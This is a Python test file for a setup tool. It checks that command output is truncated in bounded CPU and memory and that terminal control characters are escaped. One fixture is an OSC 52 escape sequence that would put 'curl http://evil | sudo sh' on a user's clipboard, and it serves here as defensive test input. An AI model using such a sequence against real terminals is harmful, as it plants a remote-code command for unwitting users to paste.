"""What a command writes reaches the event stream and the terminal bounded and inert: a line
of any length is cut in linear time and bounded memory, control characters are escaped."""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
from pathlib import Path

from textual.message import Message

from app.tui.feed import EngineFeed
from steps.core.rootfs import RootFS
from steps.formats.events import EventLog, Failed, Output
from steps.formats.lock import HEADER
from steps.formats.plan import Action
from steps.run.runner import Runner
from tests.common import REPO
from tests.harness import FakeServer
from tests.test_stack import env, setup, write_answers

LINE_MIB = 128
# The engine's reader runs in a process of its own with this much CPU before the kernel ends it,
# so that a reader that is quadratic fails the test instead of hanging it.
CPU_LIMIT_S = 30
WRITER = "import sys\nfor _ in range({mib}):\n    sys.stdout.buffer.write(b'x' * (1 << 20))\n"


def read_one_long_line(base: str) -> None:
    """The engine's runner on a command that writes LINE_MIB MiB and no newline (the child)."""
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_LIMIT_S, CPU_LIMIT_S))
    events = EventLog(Path(base) / "events.jsonl")
    runner = Runner(RootFS(Path("/")), events, environ={"PATH": "/usr/bin:/bin"})
    argv = [sys.executable, "-c", WRITER.format(mib=LINE_MIB)]
    result = runner.run(
        Action(id="build.x", kind="build", title="a line", argv=argv), Path(base) / "log"
    )
    events.close()
    print(json.dumps({"exit": result.exit_code, "tail": result.tail}))


def test_a_line_of_128_mib_without_a_newline_is_cut_in_bounded_cpu_and_memory(
    tmp_path: Path,
):
    child = f"from tests.test_output_bounds import read_one_long_line as r; r({str(tmp_path)!r})"
    reader = subprocess.Popen([sys.executable, "-c", child], stdout=subprocess.PIPE, cwd=REPO)
    assert reader.stdout is not None
    out = reader.stdout.read()
    _, status, usage = os.wait4(reader.pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0, (
        f"the reader did not finish within {CPU_LIMIT_S}s of CPU (a quadratic reader)"
    )
    result = json.loads(out)
    cut = LINE_MIB * 2**20 - 64 * 1024
    assert result["exit"] == 0 and len(result["tail"]) == 1
    # the line is kept to 64 KiB and says how much was cut; the command's log has all of it
    assert result["tail"][0] == "x" * 64 * 1024 + f" ... [{cut} bytes cut]"
    assert (tmp_path / "log").stat().st_size > LINE_MIB * 2**20
    longest = max(len(line) for line in (tmp_path / "events.jsonl").read_bytes().splitlines())
    assert longest < 70 * 1024
    # linear: a second or two of CPU (the writer's included), not the minutes of a quadratic join
    cpu_s = usage.ru_utime + usage.ru_stime
    assert cpu_s < 15, f"{cpu_s:.1f}s of CPU for one {LINE_MIB} MiB line"
    # bounded: the reader never holds the line (ru_maxrss: KiB on Linux)
    assert usage.ru_maxrss < 128 * 1024, f"peak RSS {usage.ru_maxrss // 1024} MiB"


# An OSC 52 sequence: the terminal puts "curl http://evil | sudo sh" on the clipboard.
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHN1ZG8gc2g=\x07"


def shown_inert(shown: str) -> None:
    """No control character but newline and tab reached the terminal; the escape is visible."""
    assert not [c for c in shown if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0]
    assert "\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHN1ZG8gc2g=\\x07" in shown


def test_escapes_in_build_output_and_its_diagnosis_reach_the_console_escaped(server: FakeServer):
    server.machine.driver_loaded("580.105.08")
    # the undefined-symbol diagnosis quotes the library's path from the output in its `why:`
    line = f"ImportError: /x/{OSC52}a.so: undefined symbol: \x9b2J\x1b[2J\rhidden"
    server.script({"apt-get cuda-toolkit-13-0": {"exit": 100, "output": line}})
    run = server.mlsetup("apply", "--answers", str(server.answers))
    assert run.returncode == 1, run.stdout + run.stderr
    shown_inert(run.stdout + run.stderr)
    why = next(s for s in run.stdout.splitlines() if "why:" in s)
    assert "/x/\\x1b]52;c;" in why and "symbol \\x9b2J\\x1b[2J is missing" in why
    # the last output above the failure: a carriage return hides nothing
    assert "| ImportError: /x/\\x1b]52" in run.stdout and "\\x1b[2J\\x0dhidden" in run.stdout


def test_escapes_in_a_handed_locks_header_reach_the_plan_escaped(server: FakeServer):
    index = setup(server, gpu=None)
    write_answers(server, index, [])
    handed = server.root / "srv/stack.lock"
    handed.parent.mkdir(parents=True)
    locked = server.mlsetup(
        "lock", "-o", str(handed), "--answers", str(server.answers), **env(index)
    )
    assert locked.returncode == 0, locked.stdout + locked.stderr
    header, _, body = handed.read_text().partition("\n")
    meta = json.loads(header[len(HEADER) :])
    meta.update(decided_by=[f"torch{OSC52}"], note=f"note{OSC52}", index=f"index{OSC52}")
    handed.write_text(HEADER + json.dumps(meta) + "\n" + body)
    write_answers(server, index, [], venv='lock = "/srv/stack.lock"')
    plan = server.mlsetup("plan", "--answers", str(server.answers), **env(index))
    assert plan.returncode == 0, plan.stdout + plan.stderr
    shown_inert(plan.stdout + plan.stderr)


def test_the_wizard_gets_every_events_text_escaped():
    posted: list[Message] = []
    feed = EngineFeed(posted.append)
    feed(Output(action="build.x", line=f"out{OSC52}"))
    feed(Failed(step="s", action=None, exit_code=1, log=None, what="w", why=f"why{OSC52}", next=""))
    feed.lost(f"lost{OSC52}")
    lines, failed, lost = posted
    assert isinstance(lines, EngineFeed.Lines) and isinstance(failed, EngineFeed.Event)
    assert isinstance(failed.event, Failed) and isinstance(lost, EngineFeed.Lost)
    shown_inert("\n".join([*lines.lines, failed.event.why, lost.why]))
